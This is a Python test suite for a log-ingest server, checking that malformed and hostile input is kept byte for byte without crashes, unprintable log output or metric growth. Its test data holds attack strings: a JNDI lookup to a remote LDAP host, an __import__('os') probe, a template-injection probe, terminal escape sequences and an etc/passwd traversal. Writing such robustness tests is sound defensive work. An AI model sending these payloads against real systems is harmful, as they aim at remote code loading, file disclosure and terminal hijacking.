"""
Attack: bytes made to confuse: counts, priorities, control characters, format strings, wrong protocols, odd ends.

Cost to a careless receiver: an exception a line, memory from a declared length, an operator's terminal. Bound proven:
every byte is accounted for, no exception is raised, our own log stays printable, the metrics do not grow.
"""

import contextlib
import re
import socket
import struct
import time

from twisted.trial.unittest import SynchronousTestCase

from tests.attacks.report import Group, Scenario
from tests.server import Server, wait_until
from tests.wrong_protocols import WRONG as WRONG_PROTOCOLS
from twisted_ingest.limits import MIB
from twisted_ingest.testing import Rig

CONFUSING = Scenario(
    Group.PEERS,
    "Confusing bytes",
    "counts out of range, negative, in other scripts; priorities past 191; control and escape sequences; invalid "
    "UTF-8; format strings; half timestamps",
    "each is a record or counted as none, its bytes unchanged in a raw file; nothing is interpreted; our own log "
    "escapes what it shows",
    ("ingest_conservation_error", "ingest_internal_errors_total"),
)
COUNTS = Scenario(
    Group.PEERS,
    "Declared lengths",
    "a thousand connections declare frames of nearly 10 MB and send ten bytes",
    "memory follows what was received, never what was declared; the frame deadline ends them",
    ("ingest_budget_partial_bytes", 'ingest_connections_closed_total{reason="frame_deadline"}'),
)
WRONG = Scenario(
    Group.PEERS,
    "Wrong protocols",
    "TLS, HTTP, SSH, PROXY, RELP, pickle and others on a port for lines",
    "recognised by the first bytes, named in one log line with the fix, closed; nothing is delivered",
    ('ingest_connections_refused_total{reason="tls"}',),
)
DRIP = Scenario(
    Group.PEERS,
    "One byte at a time",
    "a peer sends a byte now and then and never ends its line",
    "a record has a deadline from its first byte, which no further byte moves; what came is delivered, marked partial",
    ('ingest_connections_closed_total{reason="frame_deadline"}', "ingest_partial_records_total"),
)
SOURCES = Scenario(
    Group.OURSELVES,
    "Many different peers and contents",
    "thousands of distinct addresses, host names and programs",
    "no label, no table of the metrics grows with them",
    ("ingest_connections_opened_total",),
)
ENDS = Scenario(
    Group.PEERS,
    "Ends in the middle",
    "half a line before a FIN, half a counted frame before a FIN, half a line before a reset",
    "before a FIN it is delivered, marked partial; before a reset counted as discarded",
    ("ingest_partial_records_total", 'ingest_discarded_bytes_total{reason="reset"}'),
)

LINES = [
    b"{0} {log_format} %s %(a)s ${jndi:ldap://192.0.2.1/x} __import__('os') {{7*7}}",
    b"\x1b]0;title\x07\x1b[2J\x1b[31mred",
    b"over\rwritten",
    "bidi \u202e\u2066 override".encode(),
    b"\xff\xfe\x80\xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80",
    *(b"<%s>text" % priority for priority in (b"192", b"999999", b"-1", b"", b"2147483648", b"1x", b"\xd9\xa3")),
    b"<13",
    b"<13>Feb 30 25:61:61 host app: month and hour",
    b"<13>1 0000-13-40T99:99:99.12345678901234567890Z h a - - - stamp",
    *(b"<13>Oct 11 22:14:15 host app: cut"[:length] for length in range(1, 33)),
    b"2026-01-01T00:00:00Z a line that begins with digits and a dash",
    b"404 <html> is no counted frame",
    *(b"%s <1>x" % count for count in (b"007", b"+5", b"-1", b"5x", b"0x5", b"1_0", b"1e3", b"\xd9\xa3")),
    b"4294967296 <13>x",
    b"18446744073709551616 <13>x",
    b"9" * 5000,
    b"host=" + b"/../" * 20 + b"etc/passwd",
]
PROTOCOLS = {reason.value: hello for reason, hello in WRONG_PROTOCOLS}
"""One example of each."""


class HostileBytesTests(SynchronousTestCase):
    def server(self, *flags: str) -> Server:
        server = Server(*flags)
        self.addCleanup(server.kill)
        server.wait_ready()
        return server

    def test_confusing(self) -> None:
        """Each confusing line arrives as it was sent, at once or byte by byte; nothing is logged of any."""
        server = self.server()
        wire = b"".join(line + b"\n" for line in LINES)
        server.send(wire)
        with server.connect() as peer:
            peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for code in wire[:3000]:
                peer.sendall(bytes((code,)))
            peer.sendall(wire[3000:])
        output = server.wait_output(2 * len(wire))
        self.assertEqual(output.split(b"\n"), [*LINES, *LINES, b""])
        metrics = server.metrics()
        self.assertEqual(metrics["ingest_internal_errors_total"], 0)
        self.assertEqual(metrics["ingest_conservation_error"], 0)
        self.assertNotIn("Traceback", "\n".join(server.log))
        CONFUSING.measured(f"{len(LINES)} lines, whole and in single bytes: all arrive unchanged, no exception")

    def test_wrong_protocols(self) -> None:
        """Each wrong protocol has its own reason and log line, and the log is printable whatever was sent."""
        server = self.server("--max-length", "64")
        for hello in PROTOCOLS.values():
            with server.connect() as peer:
                peer.sendall(hello + b"\x1b[2J\x1b]0;title\x07")
                with contextlib.suppress(ConnectionResetError):
                    self.assertEqual(peer.recv(1), b"")
        server.send(b"\x1b]0;title\x07" * 20 + b"\n")
        metrics = server.metrics()
        refused = {reason: metrics[f"ingest_connections_refused_total[{reason}]"] for reason in PROTOCOLS}
        self.assertEqual(refused, dict.fromkeys(PROTOCOLS, 1.0))
        self.assertEqual(metrics["ingest_records_total"], 1)
        wait_until(lambda: any("longer than" in line or "oversize" in line for line in server.log), "the long line")
        self.assertIsNone(re.search(r"[^\x20-\x7e]", "".join(server.log)))
        WRONG.measured(f"{len(PROTOCOLS)} protocols, each refused under its own name, none delivered")

    def test_declared_lengths(self) -> None:
        """A thousand frames that declare 10 GB together cost what was sent of them, and end at the deadline."""
        server = self.server("--framing", "octet-counted", "--frame-timeout", "1s", "--max-length", "9MiB",
                             "--connection-memory", "16MiB")  # fmt: skip
        resting = server.rss()
        peers = [server.connect() for _ in range(1000)]
        for peer in peers:
            self.addCleanup(peer.close)
            peer.sendall(b"9999999 <13>0123456")
        wait_until(lambda: server.metrics()["ingest_received_bytes_total"] == 19_000, "all received")
        grown = server.rss() - resting
        self.assertLess(grown, 32 * MIB)
        closed = "ingest_connections_closed_total[frame_deadline]"
        wait_until(lambda: server.metrics()[closed] == 1000, "the deadline")
        self.assertEqual(server.metrics()["ingest_conservation_error"], 0)
        COUNTS.measured(f"1,000 frames that declare 10 GB together: {grown / MIB:.1f} MiB more resident, all ended")

    def test_drip(self) -> None:
        """Bytes that keep coming do not move the deadline of the record they belong to."""
        server = self.server("--frame-timeout", "1s")
        began, sent = time.monotonic(), 0
        with server.connect() as peer:
            try:
                # Bounded: four times the deadline and its sweep.
                while time.monotonic() - began < 8:
                    peer.sendall(b"x")
                    sent += 1
                    peer.settimeout(0.2)
                    try:
                        peer.recv(1)
                    except TimeoutError:
                        continue
            except ConnectionError:
                pass
        self.assertEqual(server.metrics()["ingest_connections_closed_total[frame_deadline]"], 1)
        output = server.wait_output(2)
        self.assertRegex(output, rb"\Ax+\n\Z")
        self.assertEqual(server.metrics()["ingest_partial_records_total"], 1)
        DRIP.measured(
            f"closed after {time.monotonic() - began:.1f} s under a deadline of 1 s, {len(output) - 1} bytes delivered"
        )

    def test_ends(self) -> None:
        """Half a record before a FIN is delivered and marked, before a reset counted; whole ones before it arrive."""
        server = self.server()
        server.send(b"whole\nhalf")
        server.send(b"20 <13>half a frame")
        with server.connect() as peer:
            peer.sendall(b"before the reset\nlost")
            wait_until(lambda: server.metrics()["ingest_records_total"] == 4, "the whole line")
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        wait_until(lambda: server.metrics()["ingest_connections_closed_total[reset]"] == 1, "the reset")
        metrics = server.metrics()
        self.assertEqual(metrics["ingest_partial_records_total"], 2)
        self.assertEqual(metrics["ingest_discarded_bytes_total[reset]"], 4)
        self.assertEqual(
            sorted(server.output().splitlines()), [b"<13>half a frame", b"before the reset", b"half", b"whole"]
        )
        ENDS.measured("two halves before a FIN delivered and marked, four bytes before a reset counted")

    def test_many_sources(self) -> None:
        """Two thousand addresses and contents add no series to the metrics."""
        rig = Rig()
        before = len(list(rig.survey.view().listeners["test"].counts))
        for number in range(2000):
            peer = rig.connect(f"198.51.{number // 250}.{number % 250}", number)
            peer.peer_sends(b"<13>Oct 11 22:14:15 host%d app%d: text\n" % (number, number))
            peer.pump()
            peer.peer_closes()
            peer.pump()
        rig.turn()
        self.assertEqual(len(list(rig.survey.view().listeners["test"].counts)), before)
        self.assertEqual((len(rig.admission.by_peer), len(rig.factory.connections)), (0, 0))
        self.assertEqual(len(rig.sink.records), 2000)
        SOURCES.measured("2,000 addresses, hosts and programs: no series and no table entry more than before")
